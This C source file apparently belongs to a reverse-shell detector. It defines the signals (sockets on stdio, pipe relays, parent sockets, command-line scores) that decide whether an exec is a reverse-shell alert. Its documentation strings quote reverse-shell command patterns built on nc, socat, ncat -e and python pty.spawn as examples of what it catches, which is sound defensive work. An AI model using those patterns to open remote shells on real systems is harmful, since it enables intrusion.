/* signals.c: the signal table (include/signals.h). Each row: the bit, the name alerts show, how
 * much it says alone, the predicate that decides it for one exec, and the line docs/run.md shows.
 * Rows are in the order alerts list them; the first row whose predicate names a remote end gives
 * the alert's remote end, so the most direct facts come first. */
#include <string.h>
#include "interp.h"
#include "judge_priv.h"

struct signal_def {
	uint32_t bit;
	const char *name;
	enum sig_strength strength;
	bool (*fires)(struct verdict *v);
	const char *doc;
};

static bool offer(struct verdict *v, const struct sw_fd *peer)
{
	if (peer && !v->peer)
		v->peer = peer;
	return peer != NULL;
}

static bool rule(struct verdict *v)
{
	return v->rule_hit;
}

static bool stdio_socket(struct verdict *v)
{
	return offer(v, judge_inet_stdio(v->p->stdio));
}

static bool parent_socket(struct verdict *v)
{
	const struct proc *pp = v->pp, *gp = judge_parent(v->j, pp);
	const struct sw_fd *s = pp ? judge_inet_stdio(pp->stdio) : NULL;

	return offer(v, s ? s : gp ? judge_inet_stdio(gp->stdio) : NULL);
}

static bool pipe_relay(struct verdict *v)
{
	const struct proc *relay = relay_of(v->j, v->p);

	return offer(v, relay ? judge_last_sock(relay) : NULL);
}

static bool holds_socket(struct verdict *v)
{
	return judge_is_shell(v->p) && offer(v, judge_last_sock(v->pp));
}

static bool score(struct verdict *v)
{
	return signals_score(v->j, v->p->score, -1) & SIG_SCORE;
}

static bool parent_score(struct verdict *v)
{
	return signals_score(v->j, -1, judge_ancestor_score(v->j, v->p)) & SIG_PARENT_SCORE;
}

static const struct signal_def table[] = {
	{ SIG_RULE, "rule", SIG_CONFIRMS, rule,
	  "a rule (docs/rules.md; built-in: bind and reverse shell) matched the process stream; a "
	  "child starts with its parent's recent events, so a connect in `python` and the exec of "
	  "`sh` in its child are one episode" },
	{ SIG_STDIO_SOCKET, "stdio-socket", SIG_CONFIRMS, stdio_socket,
	  "an inet/inet6 socket is on fd 0, 1 or 2 of the new program (live: read from the task's fd "
	  "table at the exec, whatever put it there: dup2, dup3, fcntl, io_uring, close+socket)" },
	{ SIG_PARENT_SOCKET, "parent-stdio-socket", SIG_CONFIRMS, parent_socket,
	  "the parent or grandparent has an inet socket on its stdio (at its exec, or moved there by a "
	  "dup onto 0-2): `python pty.spawn`, where the shell gets a terminal and the parent relays" },
	{ SIG_PIPE_RELAY, "pipe-relay", SIG_CONFIRMS, pipe_relay,
	  "a shell whose stdin is fed, and whose stdout or stderr is read, through pipes or fifos, by "
	  "processes holding inet connections, directly or through one filter: `sh -i < f | nc H P > "
	  "f`, `nc H P | sh | nc H P2`, openssl relays, whatever the programs are called" },
	{ SIG_HOLDS_SOCKET, "parent-holds-socket", SIG_SUPPORTS, holds_socket,
	  "a shell whose parent holds an inet connection it made or accepted (socat, ncat -e): "
	  "confirms only with a score signal (alone it is every ssh login)" },
	{ SIG_SCORE, "score", SIG_SUSPECTS, score,
	  "the command line scores at or above the threshold (docs/scoring.md)" },
	{ SIG_PARENT_SCORE, "parent-score", SIG_SUSPECTS, parent_score,
	  "the parent's or grandparent's command line did" },
};
#define NSIG (sizeof(table) / sizeof(table[0]))

static uint32_t mask_of(enum sig_strength s)
{
	uint32_t m = 0;

	for (size_t i = 0; i < NSIG; i++)
		if (table[i].strength == s)
			m |= table[i].bit;
	return m;
}

bool alert_confirmed(uint32_t sig)
{
	return (sig & mask_of(SIG_CONFIRMS)) ||
	       ((sig & mask_of(SIG_SUPPORTS)) && (sig & mask_of(SIG_SUSPECTS)));
}

uint32_t signals_score(const struct judge *j, double s, double ps)
{
	if (!j->o.model)
		return 0;
	return (s >= 0 && s >= j->o.threshold ? SIG_SCORE : 0) |
	       (ps >= 0 && ps >= j->o.threshold ? SIG_PARENT_SCORE : 0);
}

uint32_t signals_judge(struct verdict *v)
{
	uint32_t sig = 0;

	for (size_t i = 0; i < NSIG; i++)
		if (table[i].fires(v))
			sig |= table[i].bit;
	return sig;
}

const char *signal_name(uint32_t bit)
{
	for (size_t i = 0; i < NSIG; i++)
		if (table[i].bit == bit)
			return table[i].name;
	return NULL;
}

void signals_each(uint32_t signals, void (*fn)(void *ctx, const char *name), void *ctx)
{
	for (size_t i = 0; i < NSIG; i++)
		if (signals & table[i].bit)
			fn(ctx, table[i].name);
}

struct strbuf {
	char *buf;
	size_t len, n;
};

static void append_name(void *ctx, const char *name)
{
	struct strbuf *b = ctx;

	if (b->n < b->len)
		b->n += (size_t)snprintf(b->buf + b->n, b->len - b->n, "%s%s", b->n ? "," : "", name);
}

void signals_str(uint32_t signals, char *buf, size_t len)
{
	struct strbuf b = { buf, len, 0 };

	if (len)
		buf[0] = '\0';
	signals_each(signals, append_name, &b);
}

/* For docs/run.md and `shellwatch run --help-signals`: one line per row. */
void signals_doc(FILE *f)
{
	static const char *const strength[] = { "confirms", "suspects", "supports" };

	for (size_t i = 0; i < NSIG; i++) {
		fprintf(f, "| `%s` | ", table[i].name);
		for (const char *c = table[i].doc; *c; c++)
			fprintf(f, *c == '|' ? "\\|" : "%c", *c);   /* a cell of a markdown table */
		fprintf(f, " | %s |\n", strength[table[i].strength]);
	}
}
